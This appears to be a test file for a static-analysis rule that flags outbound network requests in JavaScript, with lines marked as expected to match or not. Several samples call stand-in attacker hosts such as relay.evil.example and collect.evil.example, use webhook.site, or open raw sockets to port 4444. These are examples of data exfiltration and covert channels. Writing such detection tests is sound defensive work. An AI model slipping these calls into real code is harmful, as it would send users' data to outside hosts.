const https = require("https");
import axios from "axios";
import { request } from "undici";
const net = require("net");
const got = require("got");
const API = "https://api.acme.example/v1";

// ruleid: js-network-request
await fetch(`${API}/items`, { headers: { Authorization: `Bearer ${token}` } });
// ruleid: js-network-request
await axios.post("https://hooks.slack.com/services/T000/B000/XXXX", body);
// ruleid: js-network-request
https.request({ hostname: "203.0.113.7", port: 8443, method: "POST" }, onResponse);
// ruleid: js-network-request
const ws = new WebSocket("wss://relay.evil.example/socket");
// ruleid: js-network-request
await request("https://registry.npmjs.org/left-pad");
// ruleid: js-network-request
net.connect(4444, "203.0.113.7");
// ruleid: js-network-request
await got.post("https://webhook.site/abc", { json: data });
// ruleid: js-network-request
navigator.sendBeacon("https://collect.evil.example/b", payload);
const sock = new net.Socket();
// ruleid: js-network-request
sock.connect(4444, "203.0.113.7", onConnect);

// ok: js-network-request
const url = new URL("https://example.org/docs");
// ok: js-network-request
cache.get("https://example.org/");
// ok: js-network-request
map.request("key");
